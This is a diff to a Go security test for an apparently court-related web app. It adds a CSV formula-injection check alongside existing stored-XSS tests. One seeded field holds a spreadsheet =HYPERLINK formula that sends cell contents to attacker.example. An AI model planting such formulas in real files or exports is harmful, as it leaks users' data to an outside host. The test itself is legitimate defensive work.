@@ -5,6 +5,7 @@ import (
 	"bytes"
 	"context"
 	"encoding/base64"
+	"encoding/csv"
 	"encoding/json"
 	"fmt"
 	"io"
@@ -14,6 +15,7 @@ import (
 	"net/http/httptest"
 	"net/url"
 	"regexp"
+	"strconv"
 	"strings"
 	"sync/atomic"
 	"testing"
@@ -329,7 +331,8 @@ func newHostileWorld(t *testing.T) *hostileWorld {
 	w.users["clerk"], w.users["judge"], w.users["defendant"], w.users["admin"] = s.f.Clerk(t), s.f.Judge(t), s.f.Defendant(t), s.f.Admin(t)
 	in := completeComplaint()
 	in.Defendant.Name = azStr(xssText("Evil Co"))
-	in.Defendant.Platform = azStr(xssText("App"))
+	// A spreadsheet formula where a CSV export will put it first in its cell.
+	in.Defendant.Platform = azStr(`=HYPERLINK("https://attacker.example/?"&A1,"open") ` + xssText("App"))
 	in.Defendant.Address = azStr(xssText("Road"))
 	in.Facts = azStr(xssText("Facts"))
 	in.PlaintiffAddress = azStr(xssText("Home"))
@@ -405,9 +408,24 @@ func getRoutes(e *echo.Echo, caseID, evidenceID int64) []string {
 	return out
 }
 
-// escapedEverywhere fails if a raw payload appears in a reply.
-func escapedEverywhere(t *testing.T, where, body string) {
+// escapedEverywhere fails if a raw payload appears in a reply. A CSV export is not HTML:
+// there the text stays as typed, but no cell may start a spreadsheet formula.
+func escapedEverywhere(t *testing.T, where, contentType, body string) {
 	t.Helper()
+	if strings.HasPrefix(contentType, "text/csv") {
+		rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
+		if err != nil {
+			t.Errorf("%s: unreadable CSV: %v", where, err)
+		}
+		for _, row := range rows {
+			for _, cell := range row {
+				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !isNumber(cell) {
+					t.Errorf("%s: CSV cell %.60q starts a formula", where, cell)
+				}
+			}
+		}
+		return
+	}
 	for _, p := range xssPayloads {
 		if strings.Contains(p, "<") || strings.Contains(p, `"`) {
 			if strings.Contains(body, p) {
@@ -420,6 +438,11 @@ func escapedEverywhere(t *testing.T, where, body string) {
 	if strings.Contains(body, "alert(1)") && !strings.Contains(body, "{{7*7}}") {
 		t.Errorf("%s: {{7*7}} was not shown as typed", where)
 	}
+}
+
+func isNumber(s string) bool {
+	_, err := strconv.ParseFloat(s, 64)
+	return err == nil
 }
 
 func TestAttackStoredXSS(t *testing.T) {
@@ -455,7 +478,7 @@ func TestAttackStoredXSS(t *testing.T) {
 					if rec.Code >= 500 {
 						t.Errorf("%s as %s: status %d", path, role, rec.Code)
 					}
-					escapedEverywhere(t, fmt.Sprintf("GET %s as %s (%d)", path, role, rec.Code), rec.Body.String())
+					escapedEverywhere(t, fmt.Sprintf("GET %s as %s (%d)", path, role, rec.Code), rec.Header().Get("Content-Type"), rec.Body.String())
 					// Pages are HTML, the API JSON; anything else (an evidence file, the
 					// statistics CSV) must be a type no browser runs, with sniffing off.
 					ct := rec.Header().Get("Content-Type")
